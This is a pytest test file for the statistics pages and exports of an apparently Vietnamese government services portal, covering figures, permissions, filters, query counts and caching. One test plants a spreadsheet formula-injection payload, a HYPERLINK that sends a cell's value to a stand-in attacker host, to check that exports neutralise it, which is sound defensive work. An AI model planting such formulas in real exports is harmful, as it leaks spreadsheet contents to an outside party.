"""The statistics pages and their exports: who sees what, the figures they show, refused filters, files that open,
and a constant number of queries."""

import csv
import io
import time
from datetime import timedelta
from types import SimpleNamespace

import pytest
from django.contrib.auth.models import Permission
from django.core.cache import cache, caches
from django.core.cache.backends import locmem
from django.utils import timezone
from openpyxl import load_workbook

from dossiers.constants import ResultStatus, Timeliness
from dossiers.models import Dossier, IssuedResult
from portal.auth import permission_names
from procedures.calendar import working_calendar_for_pages
from reporting import pagecache, services, views
from reporting.constants import RatingLevel, RatingSource
from reporting.models import DailyDossierStat, MonthlyDossierStat, Rating, ReportingState
from tests.factories import DossierFactory, ProcedureFactory, UserFactory

from ..redis_keys import delete_suite_keys
from .builders import at, dossier_row, seeds_2021, stamped

pytestmark = pytest.mark.django_db

YEAR_2021 = {"period": "year", "year": "2021"}


def province_leader():
    user = UserFactory()
    user.user_permissions.add(Permission.objects.get(codename="view_province_statistics"))
    return user


def xlsx_rows(response) -> list[tuple]:
    workbook = load_workbook(
        io.BytesIO(b"".join(response.streaming_content) if response.streaming else response.content)
    )
    return list(workbook.active.iter_rows(values_only=True))


def table_of(response, slug: str) -> str:
    page = response if isinstance(response, str) else response.content.decode()
    start = page.index(f'data-table="{slug}"')
    return page[start : page.index("</section>", start)]


# --- the public page ----------------------------------------------------------------------------------------------


def test_the_public_page_shows_the_seeds_year_at_92_61_per_cent(client):
    seeds_2021()

    response = client.get("/thong-ke/", YEAR_2021)

    page = response.content.decode()
    assert response.status_code == 200
    assert "92,61%" in page  # the summary, in Vietnamese notation
    assert "187.333" in page and "85.517" in page and "173.475" in page
    assert "Trung tâm Phục vụ hành chính công tỉnh" in page and "UBND xã Thử nghiệm" in page


def test_the_export_of_the_seeds_year_shows_92_61(client):
    seeds_2021()

    xlsx = client.get("/thong-ke/", {**YEAR_2021, "export": "xlsx", "table": "agencies"})
    csv_file = client.get("/thong-ke/", {**YEAR_2021, "export": "csv", "table": "agencies"})

    assert xlsx["Content-Disposition"] == 'attachment; filename="thong-ke-agencies-2021.xlsx"'
    rows = xlsx_rows(xlsx)
    assert rows[0][0] == "Năm 2021"
    assert rows[2][1:5] == ("Tiếp nhận", None, None, None)  # the periodic report's grouped headings
    assert rows[3][:5] == ("Cơ quan", "Tổng số", "Trực tuyến", "Trực tiếp, bưu chính", "Kỳ trước chuyển sang")
    total = rows[-1]
    assert total[0] == "Tổng cộng"
    assert total[1:10] == (187_333, 85_517, 101_816, 0, 187_318, 160_000, 13_475, 13_843, 92.61)
    assert total[10:] == (15, 15, 0)
    lines = list(csv.reader(io.StringIO(csv_file.content.decode("utf-8-sig"))))
    assert lines[2][9] == "Đã giải quyết – Tỷ lệ đúng hạn (%)"
    assert lines[-1][0] == "Tổng cộng" and lines[-1][9] == "92.61"


def test_the_public_page_shows_no_personal_data(client):
    dossier = dossier_row(ProcedureFactory(), received=at(3, 3), due=at(3, 10), finished=at(3, 5), timeliness="early")
    services.statistics_recompute_full()

    page = client.get("/thong-ke/", {"period": "month", "year": "2025", "month": "3"}).content.decode()

    assert dossier.agency.name in page
    assert dossier.code not in page and dossier.applicant_name not in page


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ({"period": "custom", "date_from": "2025-03-01"}, "Kỳ tùy chọn cần cả ngày bắt đầu và ngày kết thúc."),
        ({"period": "custom", "date_from": "2025-03-05", "date_to": "2025-03-01"}, "Ngày bắt đầu phải trước"),
        ({"month": "13"}, "Tháng phải từ 1 đến 12."),
        ({"period": "week"}, "Kỳ báo cáo không hợp lệ"),
        ({"year": "abc"}, "Năm phải là một số."),
        ({"procedure": "9.999999"}, "Không có thủ tục mã 9.999999."),
        ({"agency": "999999"}, "Không có cơ quan này."),
    ],
)
def test_a_bad_filter_is_refused_with_a_message(client, query, message):
    response = client.get("/thong-ke/", query)

    assert response.status_code == 400
    assert message in response.content.decode()


@pytest.mark.parametrize("query", [{"export": "pdf", "table": "agencies"}, {"export": "csv", "table": "nope"}])
def test_an_unknown_export_is_not_found(client, query):
    assert client.get("/thong-ke/", query).status_code == 404


def test_the_public_page_filters_by_agency_and_channel(client):
    province_centre, commune = seeds_2021()

    page = table_of(client.get("/thong-ke/", {**YEAR_2021, "agency": commune.pk}), "agencies")
    online = table_of(client.get("/thong-ke/", {**YEAR_2021, "channel": "2"}), "agencies")

    assert "51.816" in page and province_centre.name not in page
    assert "85.517" in online and "51.816" not in online


def test_the_public_page_query_count_does_not_grow_with_agencies(client, django_assert_num_queries):
    for _ in range(2):
        seeds_2021()
        stamped()
        # computed: the statistics' generation; the figures per agency, of the period and of its year, each from the
        # monthly and the daily rows (the totals are their sums); the agency and field choices of the filters
        with django_assert_num_queries(7):
            client.get("/thong-ke/", YEAR_2021)
        # kept until the next run: no query (the generation is kept beside the page, reporting.pagecache)
        with django_assert_num_queries(0):
            assert client.get("/thong-ke/", YEAR_2021).status_code == 200


def test_before_any_statistics_run_the_public_page_is_computed_every_time(client, django_assert_num_queries):
    seeds_2021()
    client.get("/thong-ke/", YEAR_2021)

    # all but the generation ("none yet", kept a minute like any other)
    with django_assert_num_queries(6):
        assert "92,61%" in client.get("/thong-ke/", YEAR_2021).content.decode()


# --- an agency's dashboard ---------------------------------------------------------------------------------------


@pytest.fixture
def agency_with_dossiers(agency):
    procedure = ProcedureFactory(agency=agency)
    officer = UserFactory(processing_officer=True, agency=agency, full_name="Trần Thị Chậm")
    dossier_row(
        procedure, received=at(3, 3), due=at(3, 5), finished=at(3, 7), timeliness=Timeliness.LATE, assignee=officer
    )
    dossier_row(procedure, received=at(3, 3), due=at(3, 10), finished=at(3, 6), timeliness=Timeliness.EARLY)
    now = timezone.now()
    at_risk = DossierFactory(
        procedure=procedure, status="processing", received_at=now - timedelta(days=9), due_at=now - timedelta(hours=1)
    )
    services.statistics_recompute_full()
    return procedure, at_risk


def test_a_leader_sees_its_agencys_dashboard(client, approver, agency_with_dossiers):
    procedure, at_risk = agency_with_dossiers
    client.force_login(approver)

    response = client.get("/thong-ke/co-quan/", {"period": "month", "year": "2025", "month": "3"})

    page = response.content.decode()
    assert response.status_code == 200
    assert "50,00%" in page  # one early, one late
    assert procedure.name in page and "Trần Thị Chậm" in page  # the late procedure and officer
    assert at_risk.code in page  # at risk before its deadline
    assert 'data-table="months"' in page and "<svg" in page


def test_a_leaders_export_opens_with_the_same_numbers(client, approver, agency_with_dossiers):
    client.force_login(approver)

    response = client.get(
        "/thong-ke/co-quan/",
        {"period": "quarter", "year": "2025", "quarter": "1", "export": "xlsx", "table": "procedures"},
    )

    total = xlsx_rows(response)[-1]
    assert response["Content-Disposition"].endswith('thong-ke-procedures-2025-q1.xlsx"')
    assert total[0] == "Tổng cộng" and total[5:10] == (2, 1, 0, 1, 50.0)


def test_a_leader_cannot_choose_another_agency(client, approver, agency_with_dossiers):
    other = ProcedureFactory().agency
    client.force_login(approver)

    page = client.get("/thong-ke/co-quan/", {"agency": other.pk}).content.decode()

    assert approver.agency.name in page and other.name not in page


@pytest.mark.parametrize("role", ["citizen", "reception_officer", "processing_officer", "agency_admin"])
def test_others_cannot_open_an_agency_dashboard(client, agency, role):
    client.force_login(UserFactory(**{role: True}, agency=agency) if role != "citizen" else UserFactory(citizen=True))

    assert client.get("/thong-ke/co-quan/").status_code == 403
    assert client.get("/thong-ke/chi-so-phuc-vu/").status_code == 403


def test_an_anonymous_visitor_is_sent_to_sign_in(client):
    response = client.get("/thong-ke/co-quan/")

    assert response.status_code == 302 and response["Location"].startswith("/dang-nhap/")


def test_a_province_leader_opens_any_agencys_dashboard(client, agency_with_dossiers):
    procedure, _ = agency_with_dossiers
    client.force_login(province_leader())

    chooser = client.get("/thong-ke/co-quan/")
    page = client.get("/thong-ke/co-quan/", {"agency": procedure.agency_id, "year": "2025", "month": "3"})

    assert "Chọn một cơ quan" in chooser.content.decode()
    assert page.status_code == 200 and procedure.name in page.content.decode()


def test_the_dashboard_query_count_does_not_grow_with_dossiers(
    client, approver, agency_with_dossiers, django_assert_num_queries
):
    procedure, _ = agency_with_dossiers
    client.force_login(approver)
    query = {"period": "month", "year": "2025", "month": "3"}
    # Computed: session, user (with its roles and permissions), today's workload (the
    # dossiers in flight per status, an index-only scan; those received or finished today), the dossiers at risk,
    # the statistics' generation, the field choices, the figures per procedure and per month (each from the monthly
    # and the daily rows), the late officers, the rating comments. Kept: the period's figures until the next
    # statistics run, the generation beside them, the live part (workload, at risk) LIVE_SECONDS: the session and the
    # user are left. (The due-soon horizon's working calendar is the process's copy, as on the
    # officers' queues: read here once.)
    working_calendar_for_pages()
    with django_assert_num_queries(13):
        client.get("/thong-ke/co-quan/", query)
    with django_assert_num_queries(2):
        client.get("/thong-ke/co-quan/", query)
    for _ in range(3):
        dossier_row(
            ProcedureFactory(agency=procedure.agency),
            received=at(3, 4),
            due=at(3, 5),
            finished=at(3, 9),
            timeliness="late",
        )
        rated(dossier_row(ProcedureFactory(agency=procedure.agency), received=at(3, 4), finished=at(3, 6)), "Tốt")
    services.statistics_recompute_full()
    with django_assert_num_queries(10):  # the period's figures again; the live part still kept
        client.get("/thong-ke/co-quan/", query)
    with django_assert_num_queries(2):
        client.get("/thong-ke/co-quan/", query)


def rated(dossier, comment: str, level=RatingLevel.UNSATISFIED) -> Rating:
    rating = Rating.objects.create(dossier=dossier, level=level, comment=comment, source=RatingSource.KIOSK)
    Rating.objects.filter(pk=rating.pk).update(created_at=at(3, 20))
    return rating


def test_a_leader_reads_the_rating_comments_without_who_wrote_them(client, approver, agency_with_dossiers):
    procedure, _ = agency_with_dossiers
    dossier = dossier_row(
        procedure, received=at(3, 3), finished=at(3, 6), status="returned", applicant_name="Lê Văn Góp Ý"
    )
    rated(dossier, "Cán bộ hướng dẫn chưa rõ.")
    client.force_login(approver)

    response = client.get("/thong-ke/co-quan/", {"period": "month", "year": "2025", "month": "3"})

    comments = table_of(response, "comments")
    assert "Cán bộ hướng dẫn chưa rõ." in comments and "Không hài lòng" in comments
    assert "03/2025" in comments and procedure.name in comments
    page = response.content.decode()
    assert dossier.code not in page and "Lê Văn Góp Ý" not in page and "20/03/2025" not in comments


def test_a_comment_written_as_a_formula_is_exported_as_text(client, approver, agency_with_dossiers):
    procedure, _ = agency_with_dossiers
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Xem")'
    rated(dossier_row(procedure, received=at(3, 3), finished=at(3, 6), status="returned"), formula)
    client.force_login(approver)
    query = {"period": "month", "year": "2025", "month": "3", "table": "comments"}

    xlsx = client.get("/thong-ke/co-quan/", {**query, "export": "xlsx"})
    csv_file = client.get("/thong-ke/co-quan/", {**query, "export": "csv"})

    cells = [cell for row in load_workbook(io.BytesIO(xlsx.content)).active.iter_rows() for cell in row]
    comment = next(cell for cell in cells if cell.value == formula)
    assert comment.data_type == "s"  # a string cell, not a formula the spreadsheet would run
    csv_cells = [cell for row in csv.reader(io.StringIO(csv_file.content.decode("utf-8-sig"))) for cell in row]
    assert "'" + formula in csv_cells and formula not in csv_cells


def test_officers_and_other_agencies_do_not_read_the_rating_comments(client, agency, agency_with_dossiers):
    procedure, _ = agency_with_dossiers
    rated(dossier_row(procedure, received=at(3, 3), finished=at(3, 6), status="returned"), "Chờ lâu quá.")
    query = {"period": "month", "year": "2025", "month": "3"}

    for role in ("reception_officer", "processing_officer"):
        client.force_login(UserFactory(**{role: True}, agency=agency))
        response = client.get("/thong-ke/co-quan/", query)
        assert response.status_code == 403 and "Chờ lâu quá." not in response.content.decode()
    client.force_login(UserFactory(approver=True, agency=ProcedureFactory().agency))
    other = client.get("/thong-ke/co-quan/", query)
    assert other.status_code == 200 and "Chờ lâu quá." not in other.content.decode()


# --- the province's dashboard and the scorecard ------------------------------------------------------------------


def test_the_province_dashboard_shows_agencies_and_communes_side_by_side(client):
    province_centre, commune = seeds_2021()
    client.force_login(province_leader())

    response = client.get("/thong-ke/toan-tinh/", YEAR_2021)

    page = response.content.decode()
    assert response.status_code == 200
    assert 'data-table="agencies"' in page and 'data-table="communes"' in page and 'data-table="fields"' in page
    assert page.index(province_centre.name) < page.index('data-table="communes"') < page.rindex(commune.name)


def test_only_the_province_opens_its_dashboard(client, approver):
    client.force_login(approver)
    assert client.get("/thong-ke/toan-tinh/").status_code == 403
    client.force_login(UserFactory(superuser=True))
    assert client.get("/thong-ke/toan-tinh/").status_code == 200


def test_the_province_dashboard_query_count(client, django_assert_num_queries):
    client.force_login(province_leader())
    permission_names(Permission.objects.values_list("pk", flat=True))  # the process's copy, read once in a while
    for _ in range(2):
        seeds_2021()
        stamped()
        # computed: session, user (with its roles and permissions), the statistics' generation, figures per agency and
        # per field (each from the monthly and the daily rows), the agency and field choices; kept until the next run:
        # all but the figures, the choices and the generation
        with django_assert_num_queries(9):
            client.get("/thong-ke/toan-tinh/", YEAR_2021)
        with django_assert_num_queries(2):
            client.get("/thong-ke/toan-tinh/", YEAR_2021)


def test_the_scorecard_shows_each_indicator_with_its_inputs_and_formula(
    client, approver, agency_with_dossiers, django_assert_num_queries
):
    client.force_login(approver)

    response = client.get("/thong-ke/chi-so-phuc-vu/", {"period": "month", "year": "2025", "month": "3"})

    page = response.content.decode()
    assert response.status_code == 200
    assert "(trước hạn + đúng hạn) / đã giải quyết × 100%" in page and "<strong>50,00%</strong>" in page
    assert "Cổng chưa ghi nhận phản ánh, kiến nghị; chưa tính được." in page
    assert "đạt 50% là điểm tối đa" in page


def test_the_scorecard_computes_the_electronic_results_rate_with_its_inputs(
    client, approver, agency_with_dossiers, django_assert_num_queries
):
    procedure, _ = agency_with_dossiers
    query = {"period": "month", "year": "2025", "month": "3"}
    client.force_login(approver)
    # computed: session, user (with its roles and permissions), the statistics' generation, the field choices, the
    # figures (monthly and daily rows), fees paid, electronic results, procedures online
    with django_assert_num_queries(9):
        client.get("/thong-ke/chi-so-phuc-vu/", query)
    signed, unsigned = Dossier.objects.filter(procedure=procedure, finished_at__isnull=False).order_by("id")
    IssuedResult.objects.create(
        dossier=signed, status=ResultStatus.ISSUED, source_name="kq.pdf", sha256="a" * 64, issued_at=at(3, 7)
    )
    IssuedResult.objects.create(dossier=unsigned, status=ResultStatus.PROPOSED, source_name="kq.pdf")
    # refused: no result to issue, not counted
    dossier_row(procedure, received=at(3, 3), finished=at(3, 6), status="refused", timeliness=Timeliness.EARLY)
    assert "Có kết quả điện tử (ký số): 0" in client.get("/thong-ke/chi-so-phuc-vu/", query).content.decode()
    services.statistics_recompute_full()  # the card is as fresh as the summary: the next statistics run shows them

    with django_assert_num_queries(9):
        response = client.get("/thong-ke/chi-so-phuc-vu/", query)

    card = response.content.decode()
    start = card.index("Tỷ lệ hồ sơ có kết quả điện tử")
    row = card[start : card.index("</tr>", start)]
    assert "hồ sơ có kết quả ký số do cơ quan ban hành / hồ sơ được giải quyết có kết quả × 100%" in row
    assert "Có kết quả điện tử (ký số): 1" in row and "(không tính từ chối, rút): 2" in row
    assert "<strong>50,00%</strong>" in row and "chưa tính được" not in row


def test_the_electronic_results_rate_is_the_agencys_whatever_the_other_filters(
    client, approver, agency_with_dossiers, django_assert_num_queries
):
    procedure, _ = agency_with_dossiers
    signed = Dossier.objects.filter(procedure=procedure, finished_at__isnull=False).order_by("id").first()
    IssuedResult.objects.create(
        dossier=signed, status=ResultStatus.ISSUED, source_name="kq.pdf", sha256="a" * 64, issued_at=at(3, 7)
    )
    client.force_login(approver)
    # the card's figures narrowed to the counter (none there), the electronic results the agency's: its own figures
    # (monthly and daily rows) read besides, two queries more than unfiltered
    with django_assert_num_queries(11):
        response = client.get(
            "/thong-ke/chi-so-phuc-vu/", {"period": "month", "year": "2025", "month": "3", "channel": 1}
        )

    card = response.content.decode()
    row = card[card.index("Tỷ lệ hồ sơ có kết quả điện tử") :]
    row = row[: row.index("</tr>")]
    assert "Có kết quả điện tử (ký số): 1" in row and "(không tính từ chối, rút): 2" in row


def test_todays_workload_counts_what_waits_what_runs_and_what_ended_today(agency):
    from reporting.selectors import agency_workload

    procedure = ProcedureFactory(agency=agency)
    now = timezone.now()
    DossierFactory(procedure=procedure, status="submitted")
    DossierFactory(procedure=procedure, status="processing", received_at=now, due_at=now + timedelta(days=5))
    DossierFactory(
        procedure=procedure, status="processing", received_at=now - timedelta(days=9), due_at=now - timedelta(hours=2)
    )
    DossierFactory(
        procedure=procedure, status="received", received_at=now - timedelta(days=3), due_at=now + timedelta(hours=2)
    )
    DossierFactory(
        procedure=procedure, status="supplement_requested", received_at=now - timedelta(days=2), paused_at=now
    )
    DossierFactory(procedure=procedure, status="result_ready", received_at=now, finished_at=now, timeliness="early")
    DossierFactory(
        procedure=procedure,
        status="returned",
        received_at=now - timedelta(days=40),
        finished_at=now - timedelta(days=30),
    )
    DossierFactory(status="submitted")  # another agency's

    workload = agency_workload(agency=agency, now=now, horizon=now + timedelta(hours=8))

    assert (workload.awaiting_reception, workload.received_today, workload.finished_today) == (1, 2, 1)
    assert (workload.in_progress, workload.waiting_applicant, workload.due_soon, workload.overdue) == (4, 1, 1, 1)


# --- the pages kept per generation of the statistics (reporting.pagecache) ---------------------------------------


def test_the_dashboard_shows_the_periods_live_reads_as_of_the_last_statistics_run(
    client, approver, agency_with_dossiers
):
    procedure, _ = agency_with_dossiers
    client.force_login(approver)
    query = {"period": "month", "year": "2025", "month": "3"}
    assert "Trần Thị Chậm" in client.get("/thong-ke/co-quan/", query).content.decode()
    other = UserFactory(processing_officer=True, agency=procedure.agency, full_name="Lê Văn Muộn")
    dossier_row(procedure, received=at(3, 3), due=at(3, 5), finished=at(3, 8), timeliness="late", assignee=other)
    rated(dossier_row(procedure, received=at(3, 4), finished=at(3, 6)), "Chờ lâu quá")

    before = client.get("/thong-ke/co-quan/", query).content.decode()
    services.statistics_recompute_full()
    after = client.get("/thong-ke/co-quan/", query).content.decode()

    # the late officers and the comments move with the summary's figures, not before them
    assert "Lê Văn Muộn" not in before and "Chờ lâu quá" not in before and "50,00%" in before
    assert "Lê Văn Muộn" in table_of(after, "late_officers") and "Chờ lâu quá" in table_of(after, "comments")
    assert "33,33%" in after


def test_the_dashboards_live_part_is_read_again_after_its_seconds_and_says_when_it_was_read(
    client, approver, agency_with_dossiers, monkeypatch
):
    procedure, at_risk = agency_with_dossiers
    monkeypatch.setattr(views, "LIVE_SECONDS", 1)
    client.force_login(approver)
    before = timezone.localtime()
    first = client.get("/thong-ke/co-quan/").content.decode()
    now = timezone.now()
    newly = DossierFactory(
        procedure=procedure, status="processing", received_at=now - timedelta(days=9), due_at=now - timedelta(hours=2)
    )

    kept = client.get("/thong-ke/co-quan/").content.decode()
    time.sleep(1.1)
    again = client.get("/thong-ke/co-quan/").content.decode()

    read_at = {f"Cập nhật lúc {moment:%H:%M}." for moment in (before, timezone.localtime(now))}  # a minute may turn
    assert any(text in first for text in read_at)
    assert at_risk.code in kept and newly.code not in table_of(kept, "at_risk")
    assert newly.code in table_of(again, "at_risk") and at_risk.code in table_of(again, "at_risk")


def test_a_statistics_run_hands_its_generation_to_the_pages_when_it_commits(django_capture_on_commit_callbacks):
    seeds_2021()
    stamped()
    old = pagecache.generation()

    with django_capture_on_commit_callbacks(execute=True):
        services.statistics_recompute_full()
        assert cache.get(pagecache.generation_key()) is None  # forgotten while the run is not committed
        cache.add(pagecache.generation_key(), old)  # a page that read the stamps meanwhile keeps the old ones

    assert cache.get(pagecache.generation_key()) == pagecache.generation() != old


def test_two_databases_sharing_a_redis_never_read_each_others_pages(
    client, approver, agency_with_dossiers, monkeypatch
):
    """The benchmark's copies (a thousand and a million dossiers) share one Redis, and their agencies have the same
    ids: the dashboard's live part kept for one must not be served for the other."""
    from django.db import connection

    procedure, _at_risk = agency_with_dossiers
    client.force_login(approver)
    client.get("/thong-ke/co-quan/")  # its live part kept for this database
    now = timezone.now()
    only_in_the_other = DossierFactory(
        procedure=procedure, status="processing", received_at=now - timedelta(days=9), due_at=now - timedelta(hours=2)
    )

    monkeypatch.setitem(connection.settings_dict, "NAME", "another_copy")
    page = client.get("/thong-ke/co-quan/").content.decode()

    assert only_in_the_other.code in table_of(page, "at_risk")


def later(monkeypatch, seconds: float) -> None:
    """The clock by which the process's memory (its caches) expires what it keeps, `seconds` on."""
    wall = time.time()
    monkeypatch.setattr(locmem, "time", SimpleNamespace(time=lambda: wall + seconds))


def another_process_runs() -> None:
    """A run made in another process (the worker, the command): new figures and new stamps, no handover here."""
    DailyDossierStat.objects.all().delete()
    MonthlyDossierStat.objects.all().delete()
    ReportingState.objects.filter(pk=1).update(watermark=timezone.now() + timedelta(seconds=1))


def test_without_redis_a_run_made_by_another_process_shows_within_seconds(client, settings, monkeypatch):
    """`make run` without REDIS_URL: the cache is each process's memory, which a run in another process (the
    command, the worker) cannot reach; the page reads the stamps again once the seconds it trusts them are over,
    instead of keeping them a minute."""
    settings.CACHES = {**settings.CACHES, "default": {"BACKEND": "django.core.cache.backends.locmem.LocMemCache"}}
    seeds_2021()
    stamped()
    assert "92,61%" in client.get("/thong-ke/", YEAR_2021).content.decode()

    another_process_runs()
    later(monkeypatch, pagecache.GENERATION_IN_PROCESS_SECONDS + 1)

    assert "92,61%" not in client.get("/thong-ke/", YEAR_2021).content.decode()


def test_a_kept_page_is_served_from_the_process_without_redis_or_query_for_seconds(
    client, monkeypatch, django_assert_num_queries
):
    seeds_2021()
    stamped()
    assert "92,61%" in client.get("/thong-ke/", YEAR_2021).content.decode()
    api = client.get("/api/v1/statistics/", YEAR_2021).json()

    def unreachable(keys):
        raise AssertionError("Redis asked")

    with monkeypatch.context() as patch, django_assert_num_queries(0):
        patch.setattr(pagecache, "_read", unreachable)
        assert "92,61%" in client.get("/thong-ke/", YEAR_2021).content.decode()
        assert client.get("/api/v1/statistics/", YEAR_2021).json() == api

    # Another process's run reaches Redis (its handover), not this process: shown once the seconds are over.
    another_process_runs()
    cache.delete(pagecache.generation_key())
    assert "92,61%" in client.get("/thong-ke/", YEAR_2021).content.decode()
    later(monkeypatch, pagecache.GENERATION_IN_PROCESS_SECONDS + 1)
    assert "92,61%" not in client.get("/thong-ke/", YEAR_2021).content.decode()


def test_a_part_kept_in_the_process_outlives_its_entry_in_redis_by_those_seconds_at_most(client, monkeypatch):
    """What no run stamps (an agency renamed) shows once the entry's CACHE_SECONDS are over in Redis: the process's
    copy does not keep it alive beyond the seconds it trusts the generation."""
    province_centre, _commune = seeds_2021()
    stamped()
    assert province_centre.name in client.get("/thong-ke/", YEAR_2021).content.decode()
    type(province_centre).objects.filter(pk=province_centre.pk).update(name="Trung tâm mới")
    delete_suite_keys()  # the page's entries gone from Redis, as when their time is over

    later(monkeypatch, pagecache.GENERATION_IN_PROCESS_SECONDS + 1)
    client.get("/api/v1/statistics/", YEAR_2021)  # another page reads the generation again, and it is trusted anew

    assert "Trung tâm mới" in client.get("/thong-ke/", YEAR_2021).content.decode()


def test_a_page_that_read_the_stamps_before_a_runs_handover_does_not_remember_them(
    client, monkeypatch, django_capture_on_commit_callbacks
):
    """A page reads the stamps while a run of this process commits: what it read may be the run's old stamps, so the
    process does not trust them for its seconds (the next page reads them again)."""
    seeds_2021()
    stamped()
    cache.delete(pagecache.generation_key())  # forgotten, as while a run writes
    read_stamps = pagecache.generation

    def read_while_a_run_commits():
        read = read_stamps()
        state = ReportingState.objects.get(pk=1)
        with django_capture_on_commit_callbacks(execute=True):
            pagecache.generation_changed(state)
        return read

    monkeypatch.setattr(pagecache, "generation", read_while_a_run_commits)
    client.get("/thong-ke/", YEAR_2021)

    assert caches["statistics_pages"].get(pagecache.generation_key()) is None


def test_a_run_in_this_process_shows_at_once(client):
    seeds_2021()
    stamped()
    assert "92,61%" in client.get("/thong-ke/", YEAR_2021).content.decode()

    DailyDossierStat.objects.all().delete()
    MonthlyDossierStat.objects.all().delete()
    services.statistics_recompute_full()

    assert "92,61%" not in client.get("/thong-ke/", YEAR_2021).content.decode()


def test_a_kept_page_is_kept_per_language(client, settings):
    seeds_2021()
    stamped()

    vietnamese = client.get("/thong-ke/", YEAR_2021).content.decode()
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    english = client.get("/thong-ke/", YEAR_2021).content.decode()

    assert "92,61%" in vietnamese and "92.61%" in english and "92,61%" not in english


def test_a_kept_page_keeps_its_filters_and_the_exports_follow_them(client):
    province_centre, commune = seeds_2021()
    stamped()
    query = {**YEAR_2021, "agency_level": "commune", "utm": "x"}

    client.get("/thong-ke/", query)
    page = client.get("/thong-ke/", query).content.decode()

    assert commune.name in table_of(page, "agencies") and province_centre.name not in table_of(page, "agencies")
    assert '<option value="commune" selected>' in page
    assert "?period=year&amp;year=2021&amp;agency_level=commune&amp;table=agencies&amp;export=csv" in page
    assert province_centre.name in table_of(client.get("/thong-ke/", YEAR_2021).content.decode(), "agencies")


def test_with_redis_down_the_pages_are_computed(own_redis, client, approver, agency_with_dossiers):
    procedure, at_risk = agency_with_dossiers
    client.force_login(approver)
    query = {"period": "month", "year": "2025", "month": "3"}
    kept = client.get("/thong-ke/co-quan/", query).content.decode()
    own_redis.kill()

    for path in ("/thong-ke/co-quan/", "/thong-ke/chi-so-phuc-vu/", "/thong-ke/", "/api/v1/statistics/"):
        response = client.get(path, query)
        assert response.status_code == 200, path
    page = client.get("/thong-ke/co-quan/", query).content.decode()
    assert "Trần Thị Chậm" in page and at_risk.code in page and "50,00%" in page
    assert table_of(page, "late_officers") == table_of(kept, "late_officers")


def test_with_redis_down_a_run_still_shows_at_once_on_a_page_kept_in_the_process(own_redis, client):
    seeds_2021()
    stamped()
    assert "92,61%" in client.get("/thong-ke/", YEAR_2021).content.decode()  # kept in Redis and in the process
    own_redis.kill()

    DailyDossierStat.objects.all().delete()
    MonthlyDossierStat.objects.all().delete()
    services.statistics_recompute_full()  # its handover to Redis fails; this process forgets what it remembered

    response = client.get("/thong-ke/", YEAR_2021)
    assert response.status_code == 200 and "92,61%" not in response.content.decode()
